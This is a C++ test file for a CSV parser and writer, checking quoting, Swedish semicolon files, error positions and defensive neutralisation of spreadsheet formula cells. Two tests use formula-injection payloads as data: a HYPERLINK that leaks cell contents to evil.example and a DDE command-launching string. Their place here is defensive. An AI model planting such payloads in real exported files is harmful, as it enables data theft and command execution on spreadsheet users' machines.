#include "content/csv.h"

#include <catch2/catch.hpp>

using namespace styrdok;

TEST_CASE("CSV fields may be quoted, hold separators, quotes and line breaks") {
  Diagnostics d;
  auto t = parse_csv("a,b,c\n1,\"x, y\",\"he said \"\"hi\"\"\"\n2,\"two\nlines\",\n", "f.csv", d);
  REQUIRE(t);
  CHECK(t->header == std::vector<std::string>{"a", "b", "c"});
  REQUIRE(t->rows.size() == 2);
  CHECK(t->rows[0].fields[1].text == "x, y");
  CHECK(t->rows[0].fields[2].text == "he said \"hi\"");
  CHECK(t->rows[1].fields[1].text == "two\nlines");
  CHECK(t->rows[1].fields[2].text.empty());
  CHECK(t->rows[1].line == 3);
}

TEST_CASE("a semicolon-separated file from a Swedish spreadsheet, with a byte order mark and CRLF, reads the same") {
  Diagnostics d;
  auto t = parse_csv("\xEF\xBB\xBFperiod;value\r\n2014;62,5\r\n", "f.csv", d);
  REQUIRE(t);
  CHECK(t->separator == ';');
  CHECK(t->header == std::vector<std::string>{"period", "value"});
  CHECK(t->rows[0].fields[1].text == "62,5");
}

TEST_CASE("field positions are counted in characters, so errors point at the right column") {
  Diagnostics d;
  auto t = parse_csv("a,b\nåäö,x\n", "f.csv", d);
  REQUIRE(t);
  CHECK(t->rows[0].fields[1].column == 5);
}

TEST_CASE("an unclosed quote is reported where it opens") {
  Diagnostics d;
  CHECK_FALSE(parse_csv("a,b\n1,\"open\n2,3\n", "f.csv", d));
  REQUIRE(d.items().size() == 1);
  CHECK(d.items()[0].to_string() == "f.csv:2:3: this quoted field is never closed; add the closing '\"'");
}

TEST_CASE("rows with the wrong number of columns are each reported") {
  Diagnostics d;
  auto t = parse_csv("a,b\n1,2\n1,2,3\n1\n", "f.csv", d);
  REQUIRE(t);
  CHECK_FALSE(check_columns(*t, {"a", "b"}, "f.csv", d));
  REQUIRE(d.items().size() == 2);
  CHECK(d.items()[0].to_string() ==
        "f.csv:3:1: this row has 3 columns, but the header has 2; check for a missing or extra ','");
  CHECK(d.items()[1].where.line == 4);
}

TEST_CASE("written CSV quotes only what needs it and reads back to the same fields") {
  const std::vector<std::string> fields = {"plain", "a, b", "say \"x\"", "two\nlines", "", " padded", "a; b"};
  const std::string line = csv_line(fields);
  CHECK(line == "plain,\"a, b\",\"say \"\"x\"\"\",\"two\nlines\",,\" padded\",\"a; b\"\n");
  Diagnostics d;
  auto t = parse_csv(csv_line({"1", "2", "3", "4", "5", "6", "7"}) + line, "f.csv", d);
  REQUIRE(t);
  std::vector<std::string> back;
  for (const auto& f : t->rows[0].fields) back.push_back(f.text);
  CHECK(back == fields);
}

TEST_CASE("formula cells are written with a quote before them, as OWASP advises") {
  CHECK(neutralise_csv_cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")") ==
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")");
  CHECK(neutralise_csv_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0");
  CHECK(neutralise_csv_cell("+1") == "'+1");
  CHECK(neutralise_csv_cell("-1+2") == "'-1+2");
  CHECK(neutralise_csv_cell("\tx") == "'\tx");
  CHECK(neutralise_csv_cell("\rx") == "'\rx");
  CHECK(neutralise_csv_cell("'=x") == "''=x");  // so that reading gives back the quote
  // A plain negative number is not a formula and stays a number.
  CHECK(neutralise_csv_cell("-5") == "-5");
  CHECK(neutralise_csv_cell("-3,5") == "-3,5");
  CHECK(neutralise_csv_cell("-0.25") == "-0.25");
  CHECK(neutralise_csv_cell("-5-5") == "'-5-5");
  CHECK(neutralise_csv_cell("-") == "'-");
  CHECK(neutralise_csv_cell("'quoted'") == "'quoted'");
  CHECK(neutralise_csv_cell("a=b") == "a=b");
  CHECK(neutralise_csv_cell("") == "");
  CHECK(csv_line({"=1+1", "ok"}) == "'=1+1,ok\n");
}

TEST_CASE("neutralised formula cells read back to the original value") {
  const std::vector<std::string> fields = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                                           "@SUM(1+1)*cmd|' /C calc'!A0",
                                           "+46 522 123 45",
                                           "-5",
                                           "-5+5",
                                           "'=already quoted",
                                           "''@two quotes",
                                           "'plain quote",
                                           "\tindented",
                                           "-",
                                           "plain"};
  std::vector<std::string> columns;
  for (std::size_t i = 0; i < fields.size(); ++i) columns.push_back("c" + std::to_string(i));
  Diagnostics d;
  auto t = parse_csv(csv_line(columns) + csv_line(fields), "f.csv", d);
  REQUIRE(t);
  std::vector<std::string> back;
  for (const auto& f : t->rows[0].fields) back.push_back(f.text);
  CHECK(back == fields);
  // A quote a clerk typed before a formula character is read as the spreadsheet shows it.
  auto typed = parse_csv("a,b\n'=1,'x\n", "f.csv", d);
  REQUIRE(typed);
  CHECK(typed->rows[0].fields[0].text == "=1");
  CHECK(typed->rows[0].fields[1].text == "'x");
}
